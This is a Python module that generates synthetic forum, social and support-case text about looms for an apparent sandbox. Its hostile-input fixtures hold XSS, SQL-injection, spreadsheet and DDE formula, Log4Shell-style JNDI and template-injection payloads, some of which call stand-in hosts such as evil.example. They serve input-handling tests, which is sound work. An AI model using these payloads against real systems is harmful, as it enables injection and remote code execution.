"""What people write: questions, answers, subjects, and the texts that hurt.

Belongs here: sentences. Does not belong here: when they are written (`sandbox.world`).
"""

from __future__ import annotations

from random import Random

THINGS = (
    "warp tension", "the treadle tie-up", "heddle spacing", "a broken shuttle", "pattern import",
    "the draft editor", "selvage edges", "yarn counts", "the foot pedal sensor", "firmware 4.2",
    "color sequences", "the floor loom frame", "cotton 8/2", "the license key", "a skipped pick",
    "the beam brake", "double weave", "the motor controller", "sectional warping", "reed sizes",
)  # fmt: skip
TROUBLES = (
    "keeps slipping", "does not line up", "stops after an hour", "looks uneven", "makes a noise",
    "is lost after a restart", "will not calibrate", "is too tight", "drifts to the left",
    "shows an error", "works on one machine only",
)  # fmt: skip
ADVICE = (
    "loosen the beam first", "check the tie-up chart", "use the older firmware", "wet the warp",
    "clean the sensor", "take a 10-dent reed", "reset the controller", "measure twice",
    "import it as WIF", "replace the brake cord", "ask for a spare part", "lower the speed",
)  # fmt: skip
TAGS = ("warping", "firmware", "patterns", "floor-loom", "software", "beginner")

HOSTILE_TITLES = (
    "<script>alert('x')</script> is my title",
    "Quote \" and ' and ; DROP TABLE topics; --",
    '=HYPERLINK("http://evil.example","click")',
    "Line\nbreak\tand tab",
    "\u202eright to left override and \u200bzero width",
    "👩‍👩‍👧‍👦🧵🪡 emoji only 🧶",
    "שלום עולם — مرحبا بالعالم",
    "{{7*7}} ${jndi:ldap://x.example/a} %s %n",
)
HOSTILE_TEXTS = (
    "<img src=x onerror=alert(1)> <script>document.location='//evil.example'</script>",
    "'; DELETE FROM posts; -- \\ \" ` \x0b \x7f",
    "NUL here: \0 and there: \0.",
    "e\u0301 and é are the same; ﷽ is wide; \ufeff is a mark",
    "]]> <!-- --> &amp; &lt; &#0; {% raw %} {{ config() }}",
    "| a | b |\n|---|---|\n| 1 | `code` |\n\n\n\n```\n</textarea>\n```",
)
HOSTILE_NAMES = (
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE users;--",
    "\u202eevil\u202c Ann",
    "👑 Queen 👑",
    'Jean "the Loom" O\'Neil',
    "=cmd|' /C calc'!A0",
    "A\nB",
)
SPAM_TITLES = ("Cheap followers and backlinks", "WIN a new phone today", "Crypto doubles weekly")

SOCIAL_PRAISE = (
    "finally warped the whole loom with {thing} 🧶", "love what you did with {thing}",
    "three years with {thing} and still happy 🎉", "my guild switched, because of {thing}",
)  # fmt: skip
SOCIAL_TROUBLE = (
    "{thing} {trouble}, any idea?", "why is it that {thing} {trouble}? 😤",
    "does anybody else find that {thing} {trouble}?", "🧵🧵 {thing} {trouble} again",
)  # fmt: skip
SOCIAL_NEWS = ("New today: {thing} 🧵", "Our guide to {thing}", "We are at the fair: {thing}")

WELCOME = "Welcome to the community! Have a look at our guide for first posts while you wait."
RELEASE = "Release notes: fixes for {thing} and {other}."
ANNOUNCEMENTS = ("Guild meet-up", "Maintenance window", "New draft library", "Photo contest")


def question(rng: Random) -> tuple[str, str]:
    """Return a topic's title and first post."""
    thing, trouble = rng.choice(THINGS), rng.choice(TROUBLES)
    title = f"{thing.capitalize()} {trouble}"
    return title, (
        f"Hello, {thing} {trouble}. I tried to {rng.choice(ADVICE)}, without luck.\n\n"
        "What am I missing?"
    )


def show_and_tell(rng: Random) -> tuple[str, str]:
    """Return a topic that asks nothing."""
    thing = rng.choice(THINGS)
    return f"Finished: a scarf, with {thing}", f"I am happy with {thing}. Pictures follow."


def answer(rng: Random) -> str:
    """Return an answer."""
    return f"Try this: {rng.choice(ADVICE)}, then {rng.choice(ADVICE)}."


def thanks(rng: Random) -> str:
    """Return what an asker writes back."""
    return rng.choice(
        (
            "Thank you, that did it!",
            "Thanks, but it still happens. Any other idea?",
            "Which version do you mean?",
            "Great, I owe you a skein.",
        )
    )


def social_post(rng: Random) -> str:
    """Return what somebody says about the company in public."""
    text = rng.choice(SOCIAL_PRAISE if rng.random() < 0.45 else SOCIAL_TROUBLE)
    return text.format(thing=rng.choice(THINGS), trouble=rng.choice(TROUBLES))


def social_news(rng: Random) -> str:
    """Return what the company says there by itself."""
    return rng.choice(SOCIAL_NEWS).format(thing=rng.choice(THINGS))


def case_subject(rng: Random) -> str:
    """Return the subject of a support case."""
    return f"{rng.choice(THINGS)} {rng.choice(TROUBLES)}".capitalize()


def comment(rng: Random) -> str:
    """Return a comment of staff on a case."""
    return f"Please {rng.choice(ADVICE)} and tell us what happens."
